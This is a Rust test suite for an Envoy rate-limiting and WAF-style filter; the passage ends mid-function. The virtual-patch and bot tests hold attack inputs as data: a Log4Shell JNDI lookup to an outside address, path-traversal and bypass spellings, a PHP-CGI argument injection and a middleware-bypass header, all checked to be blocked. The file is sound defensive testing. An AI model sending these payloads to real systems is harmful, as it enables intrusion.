//! What the checks do by themselves: each limit and list in a real Envoy, in the wasm-filter and in the native module. The
//! rows are the same for both.

use std::net::Ipv4Addr;
use std::process::Command;
use std::time::{Duration, SystemTime, UNIX_EPOCH};

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use glacis_limits::geo::{Country, CountryTable};
use glacis_tests::filter::{Counted, Filter, Host, Setup};
use glacis_tests::http::{Connection, Request};
use glacis_tests::list_server::ListServer;
use glacis_tests::settings;

use crate::support::{client, eventually, folder};

/// Each test in both hosts.
macro_rules! in_both_hosts {
    ($($test:ident)*) => {
        mod wasm {
            $(#[test] fn $test() { super::$test(glacis_tests::filter::Host::Wasm); })*
        }
        mod native {
            $(#[test] fn $test() { super::$test(glacis_tests::filter::Host::Native); })*
        }
    };
}

in_both_hosts! {
    limits_of_all_kinds
    bodies_that_do_not_come
    bodies_that_do_not_end
    a_list_is_fetched_again_and_again
    a_plain_list_is_fetched_kept_and_becomes_stale
    a_list_that_nobody_serves_refuses_requests_and_breaks_nothing
    countries_of_addresses
    bots
    virtual_patches
    shadow_mode_refuses_nothing
    virtual_patches_see_every_spelling
    a_shared_limit_is_exact
    answers_are_the_same
}

/// A filter of one test; its log is shown when the test fails.
struct Own(Filter);

impl Own {
    fn start(host: Host, name: &str, setup: Setup<'_>) -> Self {
        let folder = folder(&format!("{name}-{host:?}").to_lowercase());
        Self(Filter::start_in(host, &folder, setup, 0).unwrap())
    }

    fn counted(&self, what: Counted) -> u64 {
        self.0.counted(what).unwrap()
    }

    #[track_caller]
    fn status(&self, from: Ipv4Addr, request: &Request) -> u16 {
        self.0.send(from, request).unwrap().status
    }
}

impl Drop for Own {
    fn drop(&mut self) {
        if std::thread::panicking() {
            eprintln!("{}", self.0.folder.story());
        }
    }
}

/// Tokens signed with HS256 by the key below: `{"sub": "ann"}` and `{"sub": "bob"}`.
const ANN: &str = "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiJhbm4iLCJpc3MiOiJ0ZXN0In0.ZKQhbyDZAe3hEJtgfswtpU7h6jAEQpIy0JX_N2alIWs";
const BOB: &str = "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiJib2IiLCJpc3MiOiJ0ZXN0In0.tX4XAkTbLaSD9FIza1eaV82xa2aK_IC_eO9wIB244_s";
const JWT_AUTHN: &str = r#"
          - name: envoy.filters.http.jwt_authn
            typed_config:
              "@type": type.googleapis.com/envoy.extensions.filters.http.jwt_authn.v3.JwtAuthentication
              providers:
                test:
                  issuer: test
                  payload_in_metadata: jwt_payload
                  claim_to_headers: [{header_name: x-sub, claim_name: sub}]
                  local_jwks: {inline_string: '{"keys": [{"kty": "oct", "alg": "HS256", "k": "Z2xhY2lzLXRlc3Qta2V5LWdsYWNpcy10ZXN0LWtleQ"}]}'}
              rules: [{match: {prefix: /}, requires: {requires_any: {requirements: [{provider_name: test}, {allow_missing: {}}]}}}]"#;

const LIMITS: &str = r#"{"rate_limits": [
    {"name": "login", "algorithm": "gcra", "requests": 2, "per_seconds": 3600,
     "match": {"methods": ["POST"], "paths": ["/login"]}},
    {"name": "key", "requests": 3, "per_seconds": 3600, "key": [{"header": "x-key", "absent": "skip"}]},
    {"name": "credentials", "requests": 3, "per_seconds": 3600, "match": {"paths": ["/basic"]},
     "key": [{"header": "authorization", "absent": "skip"}]},
    {"name": "host", "requests": 2, "per_seconds": 3600, "match": {"hosts": ["limited.example"]}},
    {"name": "cookie", "requests": 4, "per_seconds": 3600,
     "key": ["host", {"cookie": "session", "absent": "skip"}]},
    {"name": "user", "requests": 2, "per_seconds": 3600, "key": [{"jwt_claim": "sub", "absent": "skip"}]},
    {"name": "costly", "requests": 10, "cost": 5, "per_seconds": 3600, "headers_on_allowed": true,
     "match": {"paths": ["/report/{id}"]}},
    {"name": "watch", "requests": 1, "per_seconds": 3600, "shadow": true, "match": {"paths": ["/watched"]}}
]}"#;

/// Requests that share a limit, the number that pass, and the name of the limit.
fn limited_rows() -> Vec<(Vec<Request>, usize, &'static str)> {
    let get = |path: &str| Request::get(path);
    let login = |path: &str| Request::new("POST", path).header("content-length", "0");
    let user = |token: &str| get("/echo").header("authorization", format!("Bearer {token}"));
    let basic = |value: &str| get("/basic").header("authorization", value);
    let key = |name: &str, value: &str| get("/a").header(name, value);
    let cookie = |field: &str| get("/a").header("cookie", field);
    let host = |host: &str| get("/a").header("host", host);
    vec![
        // However the path is written.
        (
            vec![login("/login"), login("/%6cogin?a"), login("//LOGIN/"), login("/a/..;/login")],
            2,
            "login",
        ),
        (vec![login("/login%20"), login("/login."), login("/login%c2%a0")], 2, "login"),
        (vec![login(&format!("/{}login", "/".repeat(50_000))); 3], 2, "login"),
        // However the value is written, and the name.
        (
            vec![key("x-key", "k"), key("X_Key", "k"), key("x-key", "\"%6b\""), key("x_key", "k")],
            3,
            "key",
        ),
        (
            vec![
                basic("Basic YTpi"),
                basic("basic  YTpi=="),
                basic("BASIC YTpi===="),
                basic("Basic YTpi"),
            ],
            3,
            "credentials",
        ),
        (
            vec![
                cookie("session=s"),
                cookie("session=\"s\""),
                cookie("session=%73"),
                cookie("session=s"),
                cookie("session=s"),
            ],
            4,
            "cookie",
        ),
        (
            vec![host("limited.example"), host("limited.example:80:80"), host("limited.example..")],
            2,
            "host",
        ),
        (vec![get("/a").header("x-key", "one"); 5], 3, "key"),
        (vec![get("/a").header("x-key", "two"); 4], 3, "key"),
        (vec![get("/a").header("cookie", "a=b; session=s1"); 6], 4, "cookie"),
        (vec![get("/a").header("cookie", "a=b").header("cookie", "session=s2"); 6], 4, "cookie"),
        (vec![user(ANN); 4], 2, "user"),
        (vec![user(BOB); 3], 2, "user"),
        (vec![get("/report/7"), get("/report/8"), get("/report/9")], 2, "costly"),
    ]
}

fn limits_of_all_kinds(host: Host) {
    // Claims are below a key of a namespace, which the native module cannot read: a header has them, too.
    let plugin = match host {
        Host::Wasm => LIMITS.to_owned(),
        Host::Native => LIMITS.replace("jwt_claim\": \"sub", "header\": \"x-sub"),
    };
    let own = Own::start(host, "limits", Setup { plugin: &plugin, before: JWT_AUTHN, feed: 0 });
    for (requests, expected, name) in limited_rows() {
        // Each request from another address, where the key has none.
        let same = client();
        let by_address = matches!(name, "login" | "costly" | "host");
        let from = || if by_address { same } else { client() };
        let answers: Vec<_> =
            requests.iter().map(|request| own.0.send(from(), request).unwrap()).collect();
        let passed = answers.iter().take_while(|answer| answer.status == 200).count();
        assert_eq!(passed, expected, "{name}: {answers:?}");
        for answer in &answers[passed..] {
            assert_eq!(answer.status, 429, "{name}");
            let policy = answer.header("ratelimit-policy").unwrap();
            assert!(policy.starts_with(&format!("\"{name}\";q=")), "{policy}");
            assert!(answer.header("retry-after").unwrap().parse::<u32>().unwrap() > 0);
        }
    }
    let answer = own.0.send(client(), &Request::get("/report/1")).unwrap();
    assert_eq!(answer.header("ratelimit-policy"), Some("\"costly\";q=10;w=3600"));
    assert!(answer.header("ratelimit").unwrap().starts_with("\"costly\";r=1;t="));
    // Neither path nor method of the login alone is limited, nor anything that has no limit.
    let from = client();
    assert!((0..20).all(|_| own.status(from, &Request::get("/login")) == 200));

    // Nobody knows which of two fields counts upstream, so the address does.
    let (from, twice) =
        (client(), Request::get("/a").header("x-key", "three").header("x-key", "four"));
    assert_eq!((0..5).filter(|_| own.status(from, &twice) == 200).count(), 3);

    // A cookie before the real one is no way around it: several count by address.
    let from = client();
    let junk =
        |i: usize| Request::get("/a").header("cookie", format!("session=junk{i}; session=s"));
    assert_eq!((0..6).filter(|i| own.status(from, &junk(*i)) == 200).count(), 4);

    let watched = client();
    assert!((0..3).all(|_| own.status(watched, &Request::get("/watched")) == 200));
    eventually("what is only watched is noted", Duration::from_secs(10), || {
        let noted = own.0.logged(watched, "verdict").unwrap();
        noted.iter().filter(|verdict| *verdict == "shadow:limited:watch").count() == 2
    });
    // One more is the long path above, to which each limit with paths applies.
    assert_eq!(own.counted(Counted::ShadowLimited), 3);
}

/// A POST of which one byte of the body is still to come.
fn incomplete(own: &Own, from: Ipv4Addr) -> Connection {
    let mut connection = Connection::open(Some(from), own.0.proxy()).unwrap();
    connection.write(b"POST /echo HTTP/1.1\r\nhost: a\r\ncontent-length: 2\r\n\r\n1").unwrap();
    connection
}

/// One address holds as many incomplete bodies as it may; it gets no more, and everybody else is served.
fn bodies_that_do_not_come(host: Host) {
    const SOON: Duration = Duration::from_secs(15);
    const PLUGIN: &str = r#"{"pending_bodies": {"per_client": 8}}"#;
    let own = Own::start(host, "pending", Setup { plugin: PLUGIN, before: "", feed: 0 });
    let (slow, other) = (client(), client());
    let post = Request::post("/echo", "text/plain", "12");
    let held = |own: &Own| own.counted(Counted::PendingBodies);
    let mut connections: Vec<_> = (0..8).map(|_| incomplete(&own, slow)).collect();
    eventually("eight are counted, over all workers", SOON, || held(&own) == 8);
    for _ in 0..20 {
        assert_eq!(own.status(slow, &post), 429);
        assert_eq!(own.status(other, &post), 200);
    }
    let answer = own.0.send(slow, &post).unwrap();
    assert_eq!(answer.header("retry-after"), Some("1"));
    assert!(answer.text().contains("request_id"), "it is our answer: {}", answer.text());
    assert_eq!(own.status(slow, &Request::get("/echo")), 200, "no body is awaited");

    // A body that ends makes room for one, and a connection that is gone for another.
    let mut first = connections.remove(0);
    first.write(b"2").unwrap();
    assert_eq!(first.read_head().unwrap().status, 200);
    eventually("there is room again", SOON, || own.status(slow, &post) == 200);
    drop(connections);
    eventually("nothing is left", SOON, || held(&own) == 0);
    let again: Vec<_> = (0..8).map(|_| incomplete(&own, slow)).collect();
    eventually("eight more are counted", SOON, || held(&own) == 8);
    assert_eq!(own.status(slow, &post), 429);
    drop(again);

    // A tunnel that was answered does not count for as long as it lasts.
    let tunnels: Vec<_> = (0..12)
        .map(|_| {
            let mut tunnel = Connection::open(Some(other), own.0.proxy()).unwrap();
            let handshake = "GET /ws HTTP/1.1\r\nhost: a\r\nconnection: upgrade\r\nupgrade: websocket\r\n\
                             sec-websocket-version: 13\r\nsec-websocket-key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n";
            tunnel.write(handshake.as_bytes()).unwrap();
            assert_eq!(tunnel.read_head().unwrap().status, 101);
            tunnel
        })
        .collect();
    eventually("nothing is left", SOON, || held(&own) == 0);
    drop(tunnels);
    eventually("what was rejected is in the log", SOON, || {
        let noted = own.0.logged(slow, "verdict").unwrap();
        noted.iter().filter(|verdict| *verdict == "limited:pending_bodies").count() >= 22
    });
}

/// One address holds as much of incomplete bodies as it may; a body that goes beyond is cut, and everybody else's are
/// not.
fn bodies_that_do_not_end(host: Host) {
    const SOON: Duration = Duration::from_secs(15);
    const MIB: usize = 1 << 20;
    const PLUGIN: &str = r#"{"pending_bodies": {"per_client": 8, "mib_per_client": 2}}"#;
    let own = Own::start(host, "pending-bytes", Setup { plugin: PLUGIN, before: "", feed: 0 });
    let (slow, other) = (client(), client());
    let begin = |from, mib: usize| {
        let mut connection = Connection::open(Some(from), own.0.proxy()).unwrap();
        let head = format!("POST /echo HTTP/1.1\r\nhost: a\r\ncontent-length: {}\r\n\r\n", 8 * MIB);
        connection.write(head.as_bytes()).unwrap();
        // Of a connection that is answered and closed the rest need not be taken.
        let _ = connection.write(&vec![b'a'; mib * MIB + MIB / 2]);
        connection
    };
    let cut = |own: &Own| own.counted(Counted::BodiesCut);
    let held = |own: &Own| own.counted(Counted::PendingBodies);
    // The first MiB of each is free.
    let small: Vec<_> = (0..4).map(|_| begin(slow, 0)).collect();
    let (first, second) = (begin(slow, 1), begin(slow, 1));
    eventually("six are counted", SOON, || held(&own) == 6);
    let third = begin(slow, 1).read_head();
    assert!(third.map_or(true, |answer| answer.status == 429), "the third MiB");
    eventually("it is counted as cut", SOON, || cut(&own) == 1);
    let others = begin(other, 2);
    let post = Request::post("/echo", "text/plain", "12");
    assert_eq!([own.status(slow, &post), own.status(other, &post)], [200, 200]);
    drop((small, first, second, others));
    eventually("nothing is left", SOON, || held(&own) == 0);
    let again = begin(slow, 2);
    eventually("it is counted", SOON, || held(&own) == 1);
    assert_eq!(cut(&own), 1);
    drop(again);
    // What is in filter state cannot be replaced by the native module: there the details of the answer say it.
    let (name, expected) = match host {
        Host::Wasm => ("verdict", "limited:pending_bodies"),
        Host::Native => ("details", "glacis_limited_pending_bodies"),
    };
    eventually("what was cut is in the log", SOON, || {
        let noted = own.0.logged(slow, name).unwrap();
        noted.iter().filter(|noted| *noted == expected).count() == 1
    });
}

const FEED: &str = r#"{"address_lists": {"feeds": [
    {"name": "block", "cluster": "feed", "path": "/block.txt", "refresh_seconds": 1, "required": true}
]}}"#;

/// A list that changes, is damaged, expires and goes away, without a new configuration of Envoy.
fn a_list_is_fetched_again_and_again(host: Host) {
    const SOON: Duration = Duration::from_secs(15);
    let server = ListServer::start().unwrap();
    let own = Own::start(host, "feed", Setup { plugin: FEED, before: "", feed: server.port });
    let (one, other) = (client(), client());
    let get = Request::get("/a");
    let now = || SystemTime::now().duration_since(UNIX_EPOCH).unwrap().as_secs();
    // Each worker asks by itself, so a change is there when it is there six times in a row.
    let becomes = |from: Ipv4Addr, status: u16| {
        eventually(&format!("{from} gets {status}"), SOON, || {
            (0..6).all(|_| own.status(from, &get) == status)
        });
    };
    server.change(|served| served.body = format!("{one} deny\n{other} tag=seen"));
    becomes(one, 403);
    becomes(other, 200);
    let known = server.change(|_| {}).known;
    server.change(|served| served.etag = "a".to_owned());
    eventually("the list is asked for by its tag", SOON, || {
        server.change(|_| {}).known > known + 1
    });

    // Damaged: the last good one stays.
    let given = server.change(|served| {
        served.etag = "b".to_owned();
        served.body = format!("{other} deny");
        served.digest_is_wrong = true;
    });
    eventually("it is refused", SOON, || server.change(|_| {}).given > given.given + 1);
    assert_eq!((own.status(one, &get), own.status(other, &get)), (403, 200));
    assert!(own.counted(Counted::ListFailures) > 0);

    // Mended, with an entry that ends.
    let end = now() + 4;
    server.change(|served| {
        served.digest_is_wrong = false;
        served.body = format!("{other} deny until={end}");
    });
    becomes(one, 200);
    becomes(other, 403);
    assert_eq!(own.counted(Counted::ListEntries), 1);
    becomes(other, 200);
    assert!(now() > end, "it ended too early");
}

const PLAIN_FEED: &str = r#"{"failure_mode": "closed", "address_lists": {"feeds": [
    {"name": "drop", "cluster": "feed", "path": "/drop.txt", "refresh_seconds": 1, "required": true,
     "format": "plain", "max_age_seconds": 4}
]}}"#;

/// A list as others publish it: without a digest, kept when a page of HTML comes instead, and no longer relied on
/// when it is too old.
fn a_plain_list_is_fetched_kept_and_becomes_stale(host: Host) {
    const SOON: Duration = Duration::from_secs(20);
    let server = ListServer::start().unwrap();
    let (listed, other) = (client(), client());
    let list = format!("; Spamhaus DROP List\n# a comment\n\n{listed}/32 ; SBL1\n");
    server.change(|served| {
        (served.body, served.etag) = (list.clone(), "a".to_owned());
        served.without_digest = true;
    });
    let own =
        Own::start(host, "plain-feed", Setup { plugin: PLAIN_FEED, before: "", feed: server.port });
    let get = Request::get("/a");
    let becomes = |from: Ipv4Addr, status: u16| {
        eventually(&format!("{from} gets {status}"), SOON, || {
            (0..6).all(|_| own.status(from, &get) == status)
        });
    };
    becomes(listed, 403);
    becomes(other, 200);
    assert_eq!(own.counted(Counted::ListEntries), 1);

    // A page of HTML is no list: what was there stays, until it is too old.
    server.change(|served| {
        served.etag = "b".to_owned();
        served.body = "<!DOCTYPE html><html><body>Not here".to_owned();
    });
    eventually("the page is refused", SOON, || own.counted(Counted::ListFailures) > 0);
    assert_eq!(own.status(listed, &get), 403);
    eventually("the list is stale", SOON, || own.counted(Counted::ListsStale) == 1);
    becomes(other, 503);
    // What it denied, it still denies.
    assert_eq!(own.status(listed, &get), 403);
    let told = own.0.folder.story();
    assert!(told.contains("list \"drop\" is stale"), "{told}");
    eventually("the reason is in the log", SOON, || {
        let verdicts = own.0.logged(other, "verdict").unwrap();
        verdicts.iter().any(|verdict| verdict == "error:stale-list")
    });

    // A good answer ends it, whatever was wrong before.
    let given = server.change(|served| served.is_down = true).given;
    eventually("it is asked for in vain", SOON, || server.change(|_| {}).given > given + 1);
    assert_eq!(own.status(other, &get), 503);
    server.change(|served| {
        (served.body, served.etag) = (list.clone(), "c".to_owned());
        served.is_down = false;
    });
    becomes(other, 200);
    eventually("nothing is stale", SOON, || own.counted(Counted::ListsStale) == 0);
    becomes(listed, 403);
}

/// Where nobody serves a list, Envoy refuses the call at once, and may say so within the call. A required list fails
/// closed, whatever the failure mode is, and each worker logs the cluster once.
fn a_list_that_nobody_serves_refuses_requests_and_breaks_nothing(host: Host) {
    let typo = FEED.replace(r#""cluster": "feed""#, r#""cluster": "feed-typo""#);
    assert_ne!(typo, FEED);
    for (name, plugin, cluster) in [("no-feed", FEED, "feed"), ("feed-typo", &typo, "feed-typo")] {
        let own = Own::start(host, name, Setup { plugin, before: "", feed: 0 });
        eventually("calls have failed", Duration::from_secs(20), || {
            own.counted(Counted::ListFailures) > if host == Host::Wasm { 9 } else { 2 }
        });
        let answer = own.0.send(client(), &Request::get("/a")).unwrap();
        assert_eq!((answer.status, answer.header("retry-after")), (503, Some("1")));
        assert!(answer.text().contains("request_id"), "it is our answer: {}", answer.text());
        if host == Host::Wasm {
            assert_eq!(own.0.envoy.vm_reloads().unwrap(), 0);
        }
        own.0.envoy.reopen_logs().unwrap();
        let log = own.0.folder.read(glacis_tests::envoy::LOG);
        let named = format!("check that Envoy has a cluster \"{cluster}\"");
        let lines =
            log.lines().filter(|line| line.contains(&named) && line.contains("\"block\"")).count();
        // The main thread has a VM as well.
        let workers = own.0.envoy.stat("server.concurrency").unwrap();
        assert!(
            (1..=workers + 1).contains(&(lines as u64)),
            "{lines} lines of {workers} workers: {log}"
        );
    }
}

/// A table as large as the real one is loaded, and the country is in the header, the log and the
/// verdict; a header that the client has made up is replaced.
fn countries_of_addresses(host: Host) {
    let (one, other, unknown) = (client(), client(), client());
    let country = |text: &str| Country::parse(text).unwrap();
    let network = |address: Ipv4Addr, name: &str| (address.into(), address.into(), country(name));
    let mut networks = vec![network(one, "AA"), network(other, "BB")];
    // 100,000 networks more, of which none is next to another of its country.
    networks.extend((0..100_000u32).map(|i| {
        let first = Ipv4Addr::from_bits(0x8000_0000 + i * 512);
        let last = Ipv4Addr::from_bits(0x8000_0000 + i * 512 + 255);
        (first.into(), last.into(), country(["CC", "DD"][(i % 2) as usize]))
    }));
    let table = STANDARD.encode(CountryTable::new(networks).to_bytes());
    let plugin = format!(r#"{{"geo": {{"table": "{table}", "deny": ["BB"], "header": true}}}}"#);
    let own = Own::start(host, "geo", Setup { plugin: &plugin, before: "", feed: 0 });
    let request = Request::get("/echo").header("x-glacis-country", "XX");
    for (from, expected) in [(one, "AA"), (unknown, "ZZ")] {
        let answer = own.0.send(from, &request).unwrap();
        let headers = answer.json()["headers"].clone();
        let told: Vec<_> = headers
            .as_array()
            .unwrap()
            .iter()
            .filter(|field| field[0] == "x-glacis-country")
            .collect();
        assert_eq!(told.len(), 1, "{headers}");
        assert_eq!(told[0][1], expected);
    }
    assert_eq!(own.status(other, &request), 403);
    eventually("the countries are in the log", Duration::from_secs(10), || {
        let is = |from, name, value: &str| own.0.logged(from, name).unwrap() == [value];
        is(one, "country", "AA")
            && is(other, "country", "BB")
            && is(other, "verdict", "denied:country")
    });
}

/// Puts what the client says is its fingerprint where a fingerprint of Envoy's TLS inspector would
/// be; the filter cannot tell.
const FINGERPRINT: &str = r#"
          - name: envoy.filters.http.set_filter_state
            typed_config:
              "@type": type.googleapis.com/envoy.extensions.filters.http.set_filter_state.v3.Config
              on_request_headers:
              - {object_key: glacis.ja4, factory_key: envoy.string,
                 format_string: {text_format_source: {inline_string: "%REQ(X-TEST-JA4)%"}}}"#;

const BOTS: &str = r#"{"bots": {
    "header": true, "browser_score": {"threshold": 5, "action": "deny"},
    "signatures": [{"name": "mine", "contains": "evil bot", "action": "deny"}],
    "crawlers": {"networks": {"googlebot": ["192.0.2.0/24"]}},
    "tls_fingerprints": {"ja4": ["t13d1516h2_8daaf6152771_b186095e22b6"]}
}}"#;

/// By name, by what a browser would have sent, and by fingerprint; a made-up score is replaced.
fn bots(host: Host) {
    const CHROME: &str = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like \
                          Gecko) Chrome/130.0.0.0 Safari/537.36";
    let own = Own::start(host, "bots", Setup { plugin: BOTS, before: FINGERPRINT, feed: 0 });
    let get = |agent: &str| Request::get("/echo").header("user-agent", agent);
    let browser = |agent: &str| {
        let page = get(agent).header("accept", "text/html,*/*;q=0.8");
        page.header("accept-language", "en").header("accept-encoding", "gzip")
    };
    let google = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)";
    let listed = get("a").header("x-test-ja4", "t13d1516h2_8daaf6152771_b186095e22b6");
    let rows = [
        (get("sqlmap/1.8.2#stable (https://sqlmap.org)"), 403, "bot.scanner.sqlmap", ""),
        (get("An EVIL bot"), 403, "bot.signature.mine", ""),
        (get(CHROME), 403, "bot.headers", ""),
        (listed, 403, "bot.tls", ""),
        (get("a").header("x-test-ja4", "t13d1516h2_8daaf6152771_b186095e22b7"), 200, "", "0"),
        (browser(CHROME).header("x-glacis-bot-score", "9"), 200, "", "0"),
        (browser(CHROME).header("sec-ch-ua-platform", "\"Android\""), 200, "", "3"),
        (get("curl/8.5.0").header("accept", "*/*"), 200, "bot.tool.curl", "0"),
        (get("Go-http-client/1.1"), 200, "bot.tool.go", "0"),
        (get(google), 200, "bot.outside.googlebot", "0"),
        (Request::get("/echo"), 200, "bot.no-agent", "0"),
    ];
    let mut expected_tags = Vec::new();
    for (request, status, tags, score) in rows {
        let from = client();
        let answer = own.0.send(from, &request).unwrap();
        assert_eq!(answer.status, status, "{request:?}");
        if status == 200 {
            let headers = answer.json()["headers"].clone();
            let told: Vec<_> = headers.as_array().unwrap().iter().collect();
            let told = told.iter().filter(|field| field[0] == "x-glacis-bot-score");
            assert_eq!(told.map(|field| &field[1]).collect::<Vec<_>>(), [score], "{request:?}");
        }
        let verdict = if status == 200 { "passed".to_owned() } else { format!("denied:{tags}") };
        expected_tags.push((from, tags, verdict));
    }
    eventually("tags and verdicts are in the log", Duration::from_secs(10), || {
        expected_tags.iter().all(|(from, tags, verdict)| {
            own.0.logged(*from, "tags").unwrap() == [*tags]
                && own.0.logged(*from, "verdict").unwrap() == [verdict.as_str()]
        })
    });
}

/// Prometheus gets labels, by the regular expressions that the quickstart has.
#[test]
fn verdicts_are_labels() {
    const PLUGIN: &str = r#"{"bots": {}, "rate_limits": [
        {"name": "a/b.c", "requests": 1, "per_seconds": 3600},
        {"name": "watch", "requests": 1, "per_seconds": 3600, "shadow": true, "key": ["host"]}
    ]}"#;
    let own = Own::start(Host::Wasm, "labels", Setup { plugin: PLUGIN, before: "", feed: 0 });
    let (one, get) = (client(), Request::get("/a"));
    let sqlmap = Request::get("/a").header("user-agent", "sqlmap/1.8");
    let rows = [(one, &get, 200), (one, &get, 429), (one, &get, 429), (client(), &get, 200)];
    for (from, request, status) in rows.into_iter().chain([(client(), &sqlmap, 403)]) {
        assert_eq!(own.status(from, request), status, "{request:?}");
    }
    let expected = [
        r#"{glacis_verdict="passed"} 1"#,
        r#"{glacis_verdict="limited",glacis_by="a/b.c"} 2"#,
        r#"{glacis_verdict="shadow_limited",glacis_by="watch"} 1"#,
        r#"{glacis_verdict="denied",glacis_by="bot.scanner.sqlmap"} 1"#,
    ];
    eventually("the labels are there", Duration::from_secs(10), || {
        let scraped = own.0.envoy.scrape().unwrap();
        let lines: Vec<_> =
            scraped.lines().filter(|line| line.contains("verdicts_total")).collect();
        println!("{lines:#?}");
        let told = |labels| format!("glacis_wasm_verdicts_total{labels}");
        expected.iter().all(|labels| lines.contains(&told(labels).as_str()))
            && lines.iter().filter(|line| !line.starts_with('#')).count() == expected.len()
    });
}

/// All virtual patches at once, as the command prints them.
fn virtual_patches(host: Host) {
    let folder = settings::root().join("rules/virtual-patches");
    let files = ["appliances", "java", "web"].map(|name| folder.join(format!("{name}.yaml")));
    let mut glacis = Command::new(settings::cli().unwrap());
    let printed = glacis.args(["patches", "filter"]).args(&files).output().unwrap();
    assert!(printed.status.success(), "{}", String::from_utf8_lossy(&printed.stderr));
    let patches = String::from_utf8(printed.stdout).unwrap();
    let plugin = format!(r#"{{"virtual_patches": {patches}}}"#);
    let own = Own::start(host, "patches", Setup { plugin: &plugin, before: "", feed: 0 });
    let attack = client();
    let discovery = |host: String| {
        Request::get("/oauth/idp/.well-known/openid-configuration").header("host", host)
    };
    let authcheck = Request::get("/php/ztp_gate.php/.js.map").header("x-pan-authcheck", "on");
    let rows = [
        (Request::get("/").header("user-agent", "${jndi:ldap://203.0.113.1/a}"), 403),
        (Request::get("/").header("user-agent", "jndi-client/1.0"), 200),
        (Request::get("/search?q=%24%7Bjndi%3Aldap%3A%2F%2Fa%7D"), 403),
        (Request::get("/console/css/%252e%252e%252fconsole.portal"), 403),
        (Request::get("/console/css/login.css"), 200),
        (Request::get("/hax?jsp=/app/rest/users;.jsp"), 403),
        (Request::get("/index.php?-d+allow_url_include%3d1"), 403),
        (Request::get("/admin").header("x-middleware-subrequest", "middleware:middleware"), 403),
        // Envoy has no field `host`, but `:authority`.
        (discovery("a".repeat(300)), 403),
        (discovery("login.example.com".to_owned()), 200),
        // The second of two fields, which Envoy does not give to who asks for one by its name.
        (authcheck.clone().header("x-pan-authcheck", "off"), 403),
        (authcheck, 200),
        (Request::get(&format!("/{}", "a".repeat(8_191))), 200),
        (Request::get(&format!("/{}", "a".repeat(8_192))), 414),
    ];
    for (request, expected) in rows {
        assert_eq!(own.status(attack, &request), expected, "{request:?}");
    }
    eventually("the patch is named in the log", Duration::from_secs(10), || {
        let noted = own.0.logged(attack, "verdict").unwrap();
        noted.iter().any(|verdict| verdict == "denied:patch:log4shell-user-agent")
    });
}

/// In shadow mode requests go on, and the log and the metrics have what would have refused them.
fn shadow_mode_refuses_nothing(host: Host) {
    let listed = client();
    let plugin = format!(
        r#"{{"address_lists": {{"deny": ["{listed}"], "shadow": true}},
            "geo": {{"from_header": "x-country", "deny": ["KP"], "shadow": true}},
            "asn": {{"from_header": "x-asn", "deny": [64496], "shadow": true}},
            "virtual_patch_shadow": true,
            "virtual_patches": [{{"id": "invoker", "cve": "CVE-2017-12149", "title": "t", "rule": 9100001,
                "when": [{{"target": "path", "equals": "/invoker/readonly"}}]}}]}}"#
    );
    let own = Own::start(host, "shadow", Setup { plugin: &plugin, before: "", feed: 0 });
    let get = |path: &str| Request::get(path);
    let rows = [
        (listed, get("/a"), "shadow:denied:list"),
        (client(), get("/a").header("x-country", "KP"), "shadow:denied:country"),
        (client(), get("/a").header("x-asn", "64496"), "shadow:denied:asn"),
        (client(), get("/invoker;x/readonly"), "shadow:denied:patch:invoker"),
        (client(), get(&format!("/{}", "a".repeat(8_192))), "shadow:denied:uri-too-long"),
        (client(), get("/a"), "passed"),
    ];
    for (from, request, verdict) in &rows {
        assert_eq!(own.status(*from, request), 200, "{verdict}");
    }
    eventually("what would have been refused is noted", Duration::from_secs(10), || {
        rows.iter().all(|(from, _, verdict)| own.0.logged(*from, "verdict").unwrap() == [*verdict])
    });
    assert_eq!(own.counted(Counted::ShadowDenied), 5);
    assert_eq!(own.counted(Counted::Denied), 0);
    if host == Host::Native {
        return;
    }
    eventually("the reasons are labels", Duration::from_secs(10), || {
        let scraped = own.0.envoy.scrape().unwrap();
        ["list", "country", "asn", "patch.invoker", "uri-too-long"].iter().all(|by| {
            let labels = format!(r#"{{glacis_verdict="shadow_denied",glacis_by="{by}"}} 1"#);
            scraped.contains(&labels)
        })
    });
}

/// Ways to write a path that Envoy passes on, each of which some server takes for the one in front of them.
fn spellings(path: &str) -> Vec<String> {
    let last = path.rfind('/').unwrap_or_default();
    let (before, name) = path.split_at(last);
    let between = ["//", "/./", "/;x/", "/x/../", "/x/..;/", "\\", "%5c", "%2f", "%252f"];
    let mut all: Vec<_> =
        between.map(|slash| format!("{before}{slash}{}", &name[1..])).into_iter().collect();
    all.extend(["//", "/./", "/;x/"].map(|slash| format!("{slash}{}", &path[1..])));
    let behind = [";x=y", "/", "/.", ".", "%20", "%2e", ";%2f..%2fx"];
    all.extend(behind.map(|end| format!("{path}{end}")));
    all.push(path.replace('o', "%6f").replace('e', "%2565"));
    all.push(path.to_uppercase());
    all
}

/// However its path is spelled, an attack gets no further than the filter in Envoy.
fn virtual_patches_see_every_spelling(host: Host) {
    const PATCHES: &str = r#"{"virtual_patches": [
        {"id": "wsat", "cve": "CVE-2017-10271", "title": "t", "rule": 9100001, "when": [
            {"target": "method", "equals": "POST"}, {"target": "path", "prefix": "/wls-wsat/"}]},
        {"id": "invoker", "cve": "CVE-2017-12149", "title": "t", "rule": 9100002, "when": [
            {"target": "path", "equals": "/invoker/readonly"}]},
        {"id": "template", "cve": "CVE-2023-22527", "title": "t", "rule": 9100003, "when": [
            {"target": "path", "suffix": "/template/aui/text-inline.vm"}]}
    ]}"#;
    let own = Own::start(host, "spellings", Setup { plugin: PATCHES, before: "", feed: 0 });
    let from = client();
    let attacks =
        ["/wls-wsat/CoordinatorPortType", "/invoker/readonly", "/template/aui/text-inline.vm"];
    for path in attacks.into_iter().flat_map(spellings).chain(attacks.map(str::to_owned)) {
        let request = Request::new("POST", &path).header("content-length", "0");
        assert_eq!(own.status(from, &request), 403, "{path}");
    }
    for path in ["/wls-wsat-x/CoordinatorPortType", "/x/invoker/readonly", "/template/aui/text.css"]
    {
        let request = Request::new("POST", path).header("content-length", "0");
        assert_eq!(own.status(from, &request), 200, "{path}");
    }
}

/// Workers count together: of many requests at once, exactly as many pass as the limit says.
fn a_shared_limit_is_exact(host: Host) {
